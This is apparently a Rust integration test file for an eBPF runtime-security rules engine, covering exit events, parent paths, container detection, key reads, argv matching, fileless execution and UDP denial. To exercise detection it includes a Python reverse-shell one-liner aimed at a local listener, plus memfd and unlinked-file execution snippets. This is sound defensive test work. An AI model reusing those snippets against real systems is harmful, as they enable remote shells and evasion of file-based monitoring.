//! Event kinds beyond exec, open and the sockets, as a user runs them: `exit` (how a
//! process ended, once per process), with real processes that exit, are killed, or
//! run several threads.

mod common;
mod rules_support;

use std::process::Command;

use common::{require_kernel, TempDir};
use rules_support::*;

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn an_exit_rule_sees_each_process_end_once_with_its_status_or_signal() {
    require_kernel();
    common::require_tool("python3");
    let dir = TempDir::new("pol_rules_exit");
    let base = format!("pex{}", std::process::id() % 100_000);
    // A shell named BASE"s" exits 3; one named BASE"k" is killed; a python that names
    // itself BASE"t" (its threads inherit the name) runs four threads and exits 0.
    let shell = |name: &str| {
        let p = dir.path().join(name);
        std::fs::copy("/bin/sh", &p).expect("copy /bin/sh");
        p
    };
    let exits = shell(&format!("{base}s"));
    let killed = shell(&format!("{base}k"));
    let rules = dir.path().join("exit.pol");
    std::fs::write(
        &rules,
        format!(
            "rule ended on exit {{\n    when starts_with(comm, \"{base}\")\n    action alert(info, \"{{comm}} ended: {{code}} {{signal}}\")\n}}\n"
        ),
    )
    .expect("write rules");
    let pol = start(&["--json", rules.to_str().expect("utf-8")]);
    let st = Command::new(&exits)
        .args(["-c", "exit 3"])
        .status()
        .expect("run");
    assert_eq!(st.code(), Some(3));
    let mut k = Command::new(&killed)
        .args(["-c", "sleep 30"])
        .spawn()
        .expect("spawn");
    std::thread::sleep(std::time::Duration::from_millis(200));
    let kpid = k.id();
    k.kill().expect("kill");
    let _ = k.wait();
    let t = Command::new("python3")
        .args([
            "-c",
            &format!("import threading, time\nopen('/proc/self/comm', 'w').write('{base}t')\nts = [threading.Thread(target=time.sleep, args=(0.2,)) for _ in range(4)]\n[t.start() for t in ts]\n[t.join() for t in ts]"),
        ])
        .output()
        .expect("run python");
    assert!(t.status.success(), "{t:?}");
    let out = stop(pol);
    let got: Vec<String> = alerts(&out)
        .iter()
        .map(|a| a["message"].as_str().unwrap_or("").to_string())
        .collect();
    let mut want = vec![
        format!("{base}s ended: 3 0"),
        format!("{base}k ended: 0 9"),
        format!("{base}t ended: 0 0"),
    ];
    // The shell killed by SIGKILL may run `sleep` as a child (its comm is `sleep`) or
    // exec it: only the named processes are watched.
    let mut got_sorted = got.clone();
    got_sorted.sort();
    want.sort();
    assert_eq!(
        got_sorted, want,
        "one alert a process (not one a thread), with its status or signal:\n{out}"
    );
    let killed_alert = alerts(&out)
        .into_iter()
        .find(|a| a["message"].as_str().is_some_and(|m| m.ends_with(" 9")))
        .expect("the killed one");
    assert_eq!(killed_alert["event"]["pid"], kpid);
    assert_eq!(killed_alert["event"]["kind"], "exit");
}

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn parent_path_knows_parents_started_before_the_rules_and_after() {
    require_kernel();
    let dir = TempDir::new("pol_rules_ppath");
    let base = format!("ppp{}", std::process::id() % 100_000);
    let sh = |name: &str| {
        let p = dir.path().join(name);
        std::fs::copy("/bin/sh", &p).expect("copy /bin/sh");
        p
    };
    let early = sh(&format!("{base}e"));
    let late = sh(&format!("{base}l"));
    let other = sh(&format!("{base}o"));
    let child = program(dir.path(), &format!("{base}c"));
    // The early parent starts before `pol run` and waits on a FIFO to run the child.
    let fifo = dir.path().join("go");
    assert!(Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo")
        .success());
    let script = format!("read l < {}; {}", fifo.display(), child.display());
    let mut waiting = Command::new(&early)
        .args(["-c", &script])
        .spawn()
        .expect("start the early parent");
    std::thread::sleep(std::time::Duration::from_millis(300));
    // The late parents' `cat` opens this file after the child ran.
    let marker = dir.path().join("marker");
    std::fs::write(&marker, "").expect("write marker");
    let rules = dir.path().join("ppath.pol");
    std::fs::write(
        &rules,
        format!(
            "rule from_parent on exec {{\n    when comm == \"{base}c\" and parent.path in {{ \"{}\", \"{}\" }}\n    action alert(info, \"{{parent.path}}\")\n}}\n\
             rule opened_from on open {{\n    when path == \"{}\" and ends_with(parent.path, \"{base}l\")\n    action alert(info, \"{{comm}} {{parent.path}}\")\n}}\n",
            early.display(),
            late.display(),
            marker.display()
        ),
    )
    .expect("write rules");
    let pol = start(&["--json", rules.to_str().expect("utf-8")]);
    std::fs::write(&fifo, "go\n").expect("wake the early parent");
    assert!(waiting.wait().expect("early parent").success());
    for parent in [&late, &other] {
        let st = Command::new(parent)
            .args([
                "-c",
                &format!("{}; cat {}; :", child.display(), marker.display()),
            ])
            .status()
            .expect("run a parent");
        assert!(st.success());
    }
    let out = stop(pol);
    let got: Vec<(String, String)> = alerts(&out)
        .iter()
        .map(|a| {
            (
                a["rule"].as_str().unwrap_or("").to_string(),
                a["message"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("from_parent".into(), early.display().to_string()),
            ("from_parent".into(), late.display().to_string()),
            ("opened_from".into(), format!("cat {}", late.display())),
        ],
        "the early parent (from /proc), the late one (its exec), not the other:\n{out}"
    );
}

fn example(name: &str) -> String {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples/rules")
        .join(name)
        .display()
        .to_string()
}

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn the_reverse_shell_example_sees_a_shell_whose_stdout_is_a_socket() {
    require_kernel();
    common::require_tool("python3");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    // Audit mode: the example kills machine-wide, and other shells may run here.
    let pol = start(&["--json", "--audit", &example("reverse_shell.pol")]);
    // A reverse shell: connect, put the socket on stdin and stdout, exec a shell.
    let rev = Command::new("python3")
        .args([
            "-c",
            &format!("import os, socket\ns = socket.create_connection(('127.0.0.1', {port}))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.execv('/bin/sh', ['sh', '-c', 'echo reached'])"),
        ])
        .spawn()
        .expect("start the reverse shell");
    let rev_pid = rev.id();
    let (mut conn, _) = listener.accept().expect("the shell connects");
    let mut got = String::new();
    std::io::Read::read_to_string(&mut conn, &mut got).expect("read");
    let _ = rev.wait_with_output();
    // A shell with pipes is not one.
    let plain = Command::new("sh")
        .args(["-c", "echo plain"])
        .output()
        .expect("sh");
    let out = stop(pol);
    assert_eq!(got.trim(), "reached", "audit mode lets it run");
    assert!(plain.status.success());
    let a: Vec<serde_json::Value> = alerts(&out)
        .into_iter()
        .filter(|a| a["rule"] == "reverse_shell")
        .collect();
    let mine: Vec<&serde_json::Value> = a.iter().filter(|a| a["event"]["pid"] == rev_pid).collect();
    assert_eq!(mine.len(), 1, "{out}");
    let ev = &mine[0]["event"];
    assert_eq!(ev["comm"], "sh");
    assert_eq!(ev["stdout.socket"], 1);
    assert_eq!(ev["stdin.socket"], 1);
    assert_eq!(mine[0]["action"], "audit");
    assert_eq!(mine[0]["would"], serde_json::json!(["kill"]));
    assert!(
        a.iter()
            .all(|x| x["event"]["argv"] != serde_json::json!(["sh", "-c", "echo plain"])),
        "{out}"
    );
}

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn the_container_example_sees_a_package_manager_in_a_container_cgroup_only() {
    require_kernel();
    let dir = TempDir::new("pol_rules_container");
    // Named as Docker names its containers' cgroups.
    let cg = TestCgroup::new("docker-pol");
    let apt = program(dir.path(), "apt-get");
    let pol = start(&["--json", &example("containers.pol")]);
    let inside = cg.sh(&format!("exec {} update", apt.display()));
    assert!(inside.status.success(), "{inside:?}");
    let outside = Command::new(&apt).status().expect("run outside");
    assert!(outside.success());
    let out = stop(pol);
    let a: Vec<serde_json::Value> = alerts(&out)
        .into_iter()
        .filter(|a| a["event"]["path"] == apt.display().to_string())
        .collect();
    let name = cg
        .path()
        .file_name()
        .expect("a name")
        .to_string_lossy()
        .to_string();
    assert_eq!(a.len(), 1, "the run inside only:\n{out}");
    assert_eq!(a[0]["rule"], "package_manager_in_container");
    assert_eq!(a[0]["event"]["cgroup.name"], name.as_str());
    assert_eq!(
        a[0]["message"],
        format!(
            "apt-get ran in container cgroup {name}: {} update",
            apt.display()
        )
    );
}

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn the_starter_rules_see_a_private_key_read_by_cat_not_by_ssh() {
    require_kernel();
    let dir = TempDir::new("pol_rules_keys");
    let key = dir.path().join("id_ed25519");
    std::fs::write(&key, "not a real key\n").expect("write key");
    // `ssh` here is a copy of cat: the rule goes by the command name, as Falco's does.
    let ssh = dir.path().join("ssh");
    std::fs::copy("/bin/cat", &ssh).expect("copy cat");
    let pol = start(&["--json", "--audit", &example("starter.pol")]);
    let by_cat = Command::new("cat").arg(&key).output().expect("cat");
    let by_ssh = Command::new(&ssh).arg(&key).output().expect("ssh");
    let out = stop(pol);
    assert_eq!(String::from_utf8_lossy(&by_cat.stdout), "not a real key\n");
    assert!(by_ssh.status.success());
    let reads: Vec<String> = alerts(&out)
        .iter()
        .filter(|a| {
            a["rule"] == "private_key_read" && a["event"]["path"] == key.display().to_string()
        })
        .map(|a| a["event"]["comm"].as_str().unwrap_or("").to_string())
        .collect();
    assert_eq!(reads, ["cat"], "cat, not ssh:\n{out}");
}

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn argv_is_tested_by_position_and_by_any_argument_up_to_its_bounds() {
    require_kernel();
    let dir = TempDir::new("pol_rules_argv");
    let base = format!("pav{}", std::process::id() % 100_000);
    let prog = program(dir.path(), &base);
    let rules = dir.path().join("argv.pol");
    std::fs::write(
        &rules,
        format!(
            "rule dash_c on exec {{\n    when comm == \"{base}\" and argv[1] == \"-c\"\n    action alert(info, \"-c {{argv}}\")\n}}\n\n\
             rule flag on exec {{\n    when comm == \"{base}\" and \"--pol-flag\" in argv\n    action alert(info, \"flag {{argv}}\")\n}}\n\n\
             rule url on exec {{\n    when comm == \"{base}\" and starts_with(argv[2], \"http://\")\n    action alert(info, \"url {{argv}}\")\n}}\n"
        ),
    )
    .expect("write rules");
    let pol = start(&["--json", rules.to_str().expect("utf-8")]);
    let long = "A".repeat(70);
    let too_long = "B".repeat(300);
    let runs: [&[&str]; 7] = [
        &["-c", "x"],
        // `-c` elsewhere than argv[1]; a slot holds the whole argument only.
        &["x", "-c"],
        &["-cc"],
        &["one", "--pol-flag"],
        // An argument longer than a slot (63 bytes) is stepped over to the next.
        &[&long, "http://example.test/", "--pol-flag"],
        // After an argument of 255 bytes or more, where the next starts is unknown.
        &[&too_long, "--pol-flag"],
        // Past the 8 slots (argv[0] to argv[7]).
        &["1", "2", "3", "4", "5", "6", "7", "--pol-flag"],
    ];
    for args in runs {
        assert!(Command::new(&prog)
            .args(args)
            .status()
            .expect("run")
            .success());
    }
    let out = stop(pol);
    let got: Vec<String> = alerts(&out)
        .iter()
        .filter(|a| a["event"]["comm"] == base.as_str())
        .map(|a| {
            let m = a["message"].as_str().unwrap_or("");
            // The message without the program's path.
            m.replace(&prog.display().to_string(), "PROG")
        })
        .collect();
    assert_eq!(
        got,
        [
            "-c PROG -c x".to_string(),
            "flag PROG one --pol-flag".to_string(),
            format!("flag PROG {long} http://example.test/ --pol-flag"),
            format!("url PROG {long} http://example.test/ --pol-flag"),
        ],
        "{out}"
    );
}

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn exe_flags_see_a_deleted_program_a_memfd_and_a_read_only_mount() {
    require_kernel();
    common::require_tool("python3");
    common::require_tool("unshare");
    let dir = TempDir::new("pol_rules_exe");
    let base = format!("pex{}", std::process::id() % 100_000);
    let prog = program(dir.path(), &base);
    let doomed = program(dir.path(), &format!("{base}d"));
    let ro = dir.path().join("ro");
    std::fs::create_dir(&ro).expect("mkdir");
    let ro_prog = program(&ro, &base);
    let rules = dir.path().join("exe.pol");
    std::fs::write(
        &rules,
        format!(
            "rule deleted on exec {{\n    when exe.deleted\n    action alert(info, \"deleted {{exe.writable_mount}}\")\n}}\n\n\
             rule mine on exec {{\n    when comm == \"{base}\"\n    action alert(info, \"{{exe.deleted}} {{exe.writable_mount}}\")\n}}\n"
        ),
    )
    .expect("write rules");
    let pol = start(&["--json", rules.to_str().expect("utf-8")]);
    assert!(Command::new(&prog).status().expect("run").success());
    // The same program from a read-only bind mount, in a mount namespace of its own.
    let st = Command::new("unshare")
        .args(["-m", "sh", "-c"])
        .arg(format!(
            "mount --bind {d} {d} && mount -o remount,bind,ro {d} && exec {p}",
            d = ro.display(),
            p = ro_prog.display()
        ))
        .status()
        .expect("run unshare");
    assert!(st.success(), "{st}");
    // An unlinked file, and a memfd, each run through /proc/self/fd.
    let fileless = |code: String| {
        let child = Command::new("python3")
            .args(["-c", &code])
            .spawn()
            .expect("python3");
        let pid = child.id();
        let out = child.wait_with_output().expect("wait");
        assert!(out.status.success(), "{out:?}");
        pid
    };
    let unlinked = fileless(format!(
        "import os\nfd = os.open('{}', os.O_RDONLY)\nos.unlink('{}')\nos.execv('/proc/self/fd/%d' % fd, ['x'])",
        doomed.display(),
        doomed.display()
    ));
    let memfd = fileless(
        "import os\nfd = os.memfd_create('pexm', 0)\nos.write(fd, open('/bin/true', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['x'])"
            .into(),
    );
    let out = stop(pol);
    let got = alerts(&out);
    let mine: Vec<&str> = got
        .iter()
        .filter(|a| a["rule"] == "mine")
        .filter_map(|a| a["message"].as_str())
        .collect();
    assert_eq!(
        mine,
        ["0 1", "0 0"],
        "/tmp is writable, the bind mount read-only:\n{out}"
    );
    for (pid, what) in [(unlinked, "an unlinked file"), (memfd, "a memfd")] {
        let a = got
            .iter()
            .find(|a| a["rule"] == "deleted" && a["event"]["pid"] == pid)
            .unwrap_or_else(|| panic!("{what} (pid {pid}) is deleted:\n{out}"));
        assert_eq!(a["event"]["exe.deleted"], 1, "{what}");
    }
    assert!(
        !got.iter().any(|a| a["rule"] == "deleted"
            && a["event"]["comm"]
                .as_str()
                .is_some_and(|c| c.starts_with(&base))),
        "programs on disk are not deleted:\n{out}"
    );
}

#[test]
#[cfg_attr(
    pol_no_bpf,
    ignore = "kernel test: needs root and bpf(), unavailable at build time (CI=true runs it)"
)]
fn a_sendmsg_rule_refuses_a_udp_datagram_to_a_listed_port_in_its_cgroup() {
    require_kernel();
    common::require_tool("python3");
    let cg = TestCgroup::new("pol_rules_sendmsg");
    let rules_dir = TempDir::new("pol_rules_sendmsg");
    let sink = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind");
    let port = sink.local_addr().expect("addr").port();
    let other = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind");
    let free = other.local_addr().expect("addr").port();
    let rules = rules_dir.path().join("udp.pol");
    std::fs::write(
        &rules,
        format!(
            "rule no_udp on sendmsg {{\n    when port == {port} and protocol == 17\n    action deny, alert(warning, \"{{comm}} sends to {{address}}:{{port}}\")\n}}\n"
        ),
    )
    .expect("write rules");
    let pol = start(&[
        "--json",
        "--cgroup",
        cg.path().to_str().expect("utf-8"),
        rules.to_str().expect("utf-8"),
    ]);
    let send = |p: u16| {
        cg.sh(&format!(
            "exec python3 -c \"import socket, errno\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(b'x', ('127.0.0.1', {p}))\n    print('ok')\nexcept OSError as e:\n    print(errno.errorcode[e.errno])\""
        ))
    };
    let refused = send(port);
    let sent = send(free);
    // Outside the cgroup: not refused.
    let outside = Command::new("python3")
        .args([
            "-c",
            &format!("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'y', ('127.0.0.1', {port})); print('ok')"),
        ])
        .output()
        .expect("python3");
    let out = stop(pol);
    assert_eq!(said(&refused), "EPERM", "{refused:?}");
    assert_eq!(said(&sent), "ok", "{sent:?}");
    assert_eq!(said(&outside), "ok", "{outside:?}");
    let mut buf = [0u8; 8];
    sink.set_read_timeout(Some(std::time::Duration::from_secs(2)))
        .expect("timeout");
    let (n, _) = sink.recv_from(&mut buf).expect("the datagram from outside");
    assert_eq!(
        &buf[..n],
        b"y",
        "only the one sent from outside the cgroup arrived"
    );
    let got = alerts(&out);
    assert_eq!(got.len(), 1, "{out}");
    assert_eq!(got[0]["action"], "deny");
    assert_eq!(got[0]["event"]["port"], u64::from(port));
    assert_eq!(got[0]["event"]["protocol"], 17);
}
